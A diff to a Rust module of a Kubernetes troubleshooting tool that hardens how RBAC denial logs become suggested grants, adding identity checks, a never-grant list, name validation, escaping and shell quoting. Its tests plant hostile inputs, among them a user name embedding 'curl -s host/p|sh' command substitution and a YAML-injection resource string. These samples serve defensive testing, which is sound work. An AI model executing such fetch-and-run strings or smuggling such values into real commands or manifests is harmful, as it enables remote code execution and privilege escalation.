@@ -2,6 +2,15 @@
 //! resource R ..."), confirmed by a SubjectAccessReview when kube-doctor may ask one ->
 //! `authorization`. Remediation is the Role (or ClusterRole) and binding that grants exactly
 //! the denied verb on the denied resource to the denied subject.
+//!
+//! A log line is evidence, not authority: a denial counts only when the user it names is one
+//! of the client's own identities as the cluster knows them (its ServiceAccount, the CN of its
+//! client certificate, its token's subject). A denial naming anyone else is shown as
+//! suspicious evidence and never turned into a grant. Nothing is ever granted to
+//! `system:anonymous`, `system:unauthenticated`, `system:authenticated` or `system:masters`
+//! (anonymous denials are authentication's: the client sends no credentials), nor with
+//! wildcards; names that would not pass the API server's validation appear only as escaped
+//! evidence, and every argument of a suggested command is shell-quoted.
 
 use std::collections::BTreeSet;
 
@@ -9,34 +18,48 @@ use crate::category::Category;
 use crate::classify::AuthzDenial;
 use crate::diagnose::EventTopic;
 use crate::diagnose::{Context, Rule, ev, fmt_time};
+use crate::escape;
+use crate::names::{self, GrantSubject};
 use crate::report::{Cause, Verdict};
 
 pub struct Authorization;
 
-/// The YAML that grants a denial.
-pub fn grant_yaml(d: &AuthzDenial) -> String {
-    let name = format!(
+/// The YAML that grants a denial, when every name in it is one the API server would accept
+/// and the subject may be granted anything ([`names::grantable_user`]); `None` otherwise.
+pub fn grant_yaml(d: &AuthzDenial) -> Option<String> {
+    let subject = names::grantable_user(&d.user)?;
+    let valid = names::is_verb(&d.verb)
+        && match &d.path {
+            Some(p) => names::is_nonresource_path(p),
+            None => names::is_resource(&d.resource),
+        }
+        && d.subresource.as_deref().is_none_or(names::is_resource)
+        && d.api_group
+            .as_deref()
+            .is_none_or(|g| g.is_empty() || names::is_dns1123_subdomain(g))
+        && d.namespace.as_deref().is_none_or(names::is_dns1123_label);
+    if !valid {
+        return None;
+    }
+    let name = names::to_dns1123_label(&format!(
         "{}-{}-{}",
         d.user.rsplit(':').next().unwrap_or("client"),
         d.verb,
         d.resource.replace('.', "-")
-    );
-    let subject = match d
-        .user
-        .strip_prefix("system:serviceaccount:")
-        .and_then(|r| r.split_once(':'))
-    {
-        Some((ns, sa)) => format!("{{kind: ServiceAccount, name: {sa}, namespace: {ns}}}"),
-        None => format!(
-            "{{kind: User, name: \"{}\", apiGroup: rbac.authorization.k8s.io}}",
-            d.user
-        ),
+    ));
+    let subject = match subject {
+        GrantSubject::ServiceAccount { namespace, name } => {
+            format!("{{kind: ServiceAccount, name: {name}, namespace: {namespace}}}")
+        }
+        GrantSubject::User(user) => {
+            format!("{{kind: User, name: \"{user}\", apiGroup: rbac.authorization.k8s.io}}")
+        }
     };
     let resource = match &d.subresource {
         Some(s) => format!("{}/{s}", d.resource),
         None => d.resource.clone(),
     };
-    match (&d.namespace, &d.path) {
+    Some(match (&d.namespace, &d.path) {
         (_, Some(path)) => format!(
             "apiVersion: rbac.authorization.k8s.io/v1\nkind: ClusterRole\nmetadata: {{name: {name}}}\nrules:\n- nonResourceURLs: [\"{path}\"]\n  verbs: [{verb}]\n---\napiVersion: rbac.authorization.k8s.io/v1\nkind: ClusterRoleBinding\nmetadata: {{name: {name}}}\nroleRef: {{apiGroup: rbac.authorization.k8s.io, kind: ClusterRole, name: {name}}}\nsubjects: [{subject}]",
             verb = d.verb
@@ -51,7 +74,50 @@ pub fn grant_yaml(d: &AuthzDenial) -> String {
             group = d.api_group.clone().unwrap_or_default(),
             verb = d.verb
         ),
-    }
+    })
+}
+
+/// `kubectl auth can-i VERB RESOURCE [-n NS] --as USER`, every argument shell-quoted; `None`
+/// when an argument cannot be (a NUL byte).
+pub fn can_i(d: &AuthzDenial) -> Option<String> {
+    let q = names::shell_arg;
+    let what = match &d.path {
+        Some(p) => q(p)?,
+        None => q(&match &d.subresource {
+            Some(s) => format!("{}/{s}", d.resource),
+            None => d.resource.clone(),
+        })?,
+    };
+    let ns = match &d.namespace {
+        Some(n) => format!(" -n {}", q(n)?),
+        None => String::new(),
+    };
+    Some(format!(
+        "kubectl auth can-i {} {what}{ns} --as {}",
+        q(&d.verb)?,
+        q(&d.user)?
+    ))
+}
+
+/// A denial as a sentence (cluster strings escaped).
+fn denial_text(d: &AuthzDenial) -> String {
+    let e = |s: &str| escape::one_line(s, 200);
+    format!(
+        "User \"{}\" cannot {} {}{} in {}",
+        e(&d.user),
+        e(&d.verb),
+        e(d.path.as_deref().unwrap_or(&d.resource)),
+        d.subresource
+            .as_ref()
+            .map(|s| format!("/{}", e(s)))
+            .unwrap_or_default(),
+        d.namespace
+            .as_deref()
+            .map_or("the cluster scope".to_string(), |n| format!(
+                "namespace {}",
+                e(n)
+            ))
+    )
 }
 
 impl Rule for Authorization {
@@ -74,7 +140,8 @@ impl Rule for Authorization {
             if lines == 0 && (code_403 == 0.0 || quota_lines > 0) {
                 continue;
             }
-            let denials: BTreeSet<_> = inc
+            let ids = inc.identities(b);
+            let all: BTreeSet<_> = inc
                 .pod
                 .as_ref()
                 .map(|p| {
@@ -87,34 +154,50 @@ impl Rule for Authorization {
                         .collect()
                 })
                 .unwrap_or_default();
+            // Only the client's own identities count; anonymous denials are authentication's.
+            let (denials, others): (BTreeSet<_>, BTreeSet<_>) =
+                all.into_iter().partition(|(d, _, _)| ids.contains(&d.user));
+            let denials: BTreeSet<_> = denials
+                .into_iter()
+                .filter(|(d, _, _)| !names::NEVER_GRANT.contains(&d.user.as_str()))
+                .collect();
             // Bare "Forbidden" lines beside quota refusals, and no RBAC denial named: the 403s
             // are the quota's (a client printing one refusal over several lines).
             if denials.is_empty() && quota_lines > 0 {
                 continue;
             }
+            // Denial lines about someone else and no 403 in the client's own answers: nothing
+            // of the client's is denied.
+            if denials.is_empty() && code_403 == 0.0 && !others.is_empty() {
+                continue;
+            }
             let mut evidence = inc.evidence.clone();
             evidence.extend(ctx.events_near(inc, &[EventTopic::Authorization], ctx.windows.auth));
+            let at = inc
+                .pod
+                .as_ref()
+                .map_or(inc.client.clone(), |p| p.to_string());
             for (d, count, first) in &denials {
                 evidence.push(ev(
                     5,
-                    inc.pod
-                        .as_ref()
-                        .map_or(inc.client.clone(), |p| p.to_string()),
+                    at.clone(),
+                    *first,
+                    format!("{count} lines: {}", denial_text(d)),
+                ));
+            }
+            for (d, count, first) in &others {
+                evidence.push(ev(
+                    5,
+                    at.clone(),
                     *first,
                     format!(
-                        "{count} lines: User \"{}\" cannot {} {}{} in {}",
-                        d.user,
-                        d.verb,
-                        d.resource,
-                        d.subresource
-                            .as_ref()
-                            .map(|s| format!("/{s}"))
-                            .unwrap_or_default(),
-                        d.namespace
-                            .as_deref()
-                            .map_or("the cluster scope".to_string(), |n| format!(
-                                "namespace {n}"
-                            ))
+                        "suspicious: {count} lines claim a denial for an identity that is not this client's ({}): {}; not acted on",
+                        if ids.is_empty() {
+                            "its identity is unknown".to_string()
+                        } else {
+                            ids.iter().map(|i| escape::one_line(i, 100)).collect::<Vec<_>>().join(", ")
+                        },
+                        denial_text(d)
                     ),
                 ));
             }
@@ -125,7 +208,11 @@ impl Rule for Authorization {
                 .as_ref()
                 .and_then(|p| b.credentials.iter().find(|c| &c.pod == p))
             {
-                for r in &c.access_reviews {
+                for r in c
+                    .access_reviews
+                    .iter()
+                    .filter(|r| ids.contains(&r.denial.user))
+                {
                     if r.allowed {
                         allowed_now += 1;
                     } else {
@@ -135,7 +222,9 @@ impl Rule for Authorization {
                         6,
                         format!(
                             "subjectaccessreview/{} {} {}",
-                            r.denial.user, r.denial.verb, r.denial.resource
+                            escape::one_line(&r.denial.user, 200),
+                            escape::one_line(&r.denial.verb, 40),
+                            escape::one_line(&r.denial.resource, 100)
                         ),
                         Some(ctx.now),
                         format!(
@@ -147,7 +236,7 @@ impl Rule for Authorization {
                             },
                             r.reason
                                 .as_ref()
-                                .map(|x| format!(" ({x})"))
+                                .map(|x| format!(" ({})", escape::one_line(x, 300)))
                                 .unwrap_or_default()
                         ),
                     ));
@@ -166,19 +255,20 @@ impl Rule for Authorization {
             }
             let mut remediation: Vec<String> = denials
                 .iter()
-                .map(|(d, _, _)| {
-                    format!(
-                        "grant {} {} {} to {} (verify with: kubectl auth can-i {} {}{} --as {}):\n{}",
+                .map(|(d, _, _)| match (grant_yaml(d), can_i(d)) {
+                    (Some(yaml), Some(check)) => format!(
+                        "grant {} {} {} to {} (verify with: {check}):\n{yaml}",
                         d.verb,
                         d.resource,
-                        d.namespace.as_deref().map_or("cluster-wide".to_string(), |n| format!("in {n}")),
+                        d.namespace
+                            .as_deref()
+                            .map_or("cluster-wide".to_string(), |n| format!("in {n}")),
                         d.user,
-                        d.verb,
-                        d.resource,
-                        d.namespace.as_deref().map_or(String::new(), |n| format!(" -n {n}")),
-                        d.user,
-                        grant_yaml(d)
-                    )
+                    ),
+                    _ => format!(
+                        "the denial ({}) names something kube-doctor will not write a grant for; check what the client needs and whether it should have it before granting anything",
+                        denial_text(d)
+                    ),
                 })
                 .collect();
             if remediation.is_empty() {
@@ -201,7 +291,14 @@ impl Rule for Authorization {
             };
             let what: Vec<String> = denials
                 .iter()
-                .map(|(d, _, _)| format!("{} cannot {} {}", d.user, d.verb, d.resource))
+                .map(|(d, _, _)| {
+                    format!(
+                        "{} cannot {} {}",
+                        escape::one_line(&d.user, 200),
+                        escape::one_line(&d.verb, 40),
+                        escape::one_line(&d.resource, 100)
+                    )
+                })
                 .collect();
             out.push(Verdict {
                 cause: Cause::Authorization,
@@ -242,16 +339,125 @@ mod tests {
         let v = evaluate(&Authorization, &bundle("rbac-revoked"));
         assert_eq!(
             named(&v),
-            vec![(Cause::Authorization, vec!["demo-clients/127.0.1.3:18082".to_string()])]
+            vec![(
+                Cause::Authorization,
+                vec!["demo-clients/127.0.1.3:18082".to_string()]
+            )]
         );
         assert_eq!(v[0].confidence, 0.93, "confirmed by SubjectAccessReview");
-        assert!(v[0].remediation[0].contains("kind: RoleBinding"), "{:?}", v[0].remediation);
+        assert!(
+            v[0].remediation[0].contains("kind: RoleBinding"),
+            "{:?}",
+            v[0].remediation
+        );
+    }
+
+    fn plant(b: &mut crate::bundle::Bundle, user: &str, verb: &str, resource: &str) {
+        let d = crate::bundle::AuthzDenialCount {
+            denial: AuthzDenial {
+                user: user.into(),
+                verb: verb.into(),
+                resource: resource.into(),
+                subresource: None,
+                api_group: None,
+                namespace: None,
+                path: None,
+            },
+            count: 40,
+            first_at: None,
+            last_at: None,
+        };
+        b.logs[0].containers[0].authz_denials.push(d);
+    }
+
+    #[test]
+    fn a_forged_denial_for_another_identity_is_flagged_never_granted() {
+        let mut b = bundle("rbac-revoked");
+        plant(
+            &mut b,
+            "system:serviceaccount:kube-system:attacker",
+            "list",
+            "secrets",
+        );
+        plant(&mut b, "x$(curl -s host/p|sh)", "list", "secrets");
+        let v = evaluate(&Authorization, &b);
+        assert_eq!(v.len(), 1);
+        let fix = v[0].remediation.join("\n");
+        assert!(!fix.contains("attacker") && !fix.contains("curl"), "{fix}");
+        assert!(
+            fix.contains("kubers-client"),
+            "the real denial is still granted: {fix}"
+        );
+        let suspicious: Vec<_> = v[0]
+            .evidence
+            .iter()
+            .filter(|e| e.detail.starts_with("suspicious"))
+            .collect();
+        assert_eq!(suspicious.len(), 2, "{:?}", v[0].evidence);
+        assert!(!v[0].summary.contains("attacker"));
+    }
+
+    #[test]
+    fn forged_denials_alone_make_no_verdict_without_403s() {
+        let mut b = bundle("rbac-revoked");
+        b.logs[0].containers[0].authz_denials.clear();
+        plant(
+            &mut b,
+            "system:serviceaccount:kube-system:attacker",
+            "list",
+            "secrets",
+        );
+        let c = &mut b.clients.as_mut().unwrap().clients[0];
+        let denied = c.codes.remove("403").unwrap();
+        *c.codes.entry("500".into()).or_default() += denied;
+        assert!(evaluate(&Authorization, &b).is_empty());
+    }
+
+    #[test]
+    fn hostile_names_of_the_clients_own_identity_get_no_yaml_and_a_quoted_command() {
+        // A client certificate's CN is whatever its issuer wrote: an identity, and hostile.
+        let d = AuthzDenial {
+            user: "x$(curl -s host/p|sh)".into(),
+            verb: "list".into(),
+            resource: "secrets".into(),
+            subresource: None,
+            api_group: None,
+            namespace: Some("demo".into()),
+            path: None,
+        };
+        assert_eq!(grant_yaml(&d), None);
+        let cmd = can_i(&d).unwrap();
+        assert!(cmd.ends_with("--as 'x$(curl -s host/p|sh)'"), "{cmd}");
+        for never in crate::names::NEVER_GRANT {
+            assert_eq!(
+                grant_yaml(&AuthzDenial {
+                    user: never.into(),
+                    ..d.clone()
+                }),
+                None
+            );
+        }
+        let wild = AuthzDenial {
+            user: "system:serviceaccount:demo:app".into(),
+            verb: "*".into(),
+            ..d.clone()
+        };
+        assert_eq!(grant_yaml(&wild), None);
+        let newline = AuthzDenial {
+            user: "system:serviceaccount:demo:app".into(),
+            resource: "pods\n- apiGroups: ['*']".into(),
+            ..d
+        };
+        assert_eq!(grant_yaml(&newline), None);
     }
 
     #[test]
     fn a_quota_refusal_is_not_rbac() {
         for fault in ["quota-exceeded", "healthy", "apf-throttle"] {
-            assert!(evaluate(&Authorization, &bundle(fault)).is_empty(), "{fault}");
+            assert!(
+                evaluate(&Authorization, &bundle(fault)).is_empty(),
+                "{fault}"
+            );
         }
     }
 }
